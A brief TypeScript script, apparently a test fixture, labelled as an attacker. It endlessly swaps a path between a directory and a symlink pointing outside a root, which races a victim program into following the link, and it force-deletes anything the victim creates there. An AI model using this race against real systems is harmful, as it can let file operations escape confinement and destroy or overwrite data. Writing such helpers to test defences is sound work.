/**
 * An attacker: makes `ROOT/d` in turn a directory and a symlink to the second argument, until
 * killed.
 */
import { mkdirSync, renameSync, rmSync, symlinkSync } from "node:fs";
import process from "node:process";

const [, , root = "", outside = ""] = process.argv;
mkdirSync(`${root}/.directory`, { recursive: true });
symlinkSync(outside, `${root}/.symlink`);
console.log("swapping");
for (;;) {
  rename(".directory", "d");
  rename("d", ".directory");
  rename(".symlink", "d");
  rename("d", ".symlink");
}

function rename(from: string, to: string): void {
  try {
    renameSync(`${root}/${from}`, `${root}/${to}`);
  } catch {
    // The victim may have made something of that name; out of the way with it.
    rmSync(`${root}/${to}`, { recursive: true, force: true });
  }
}
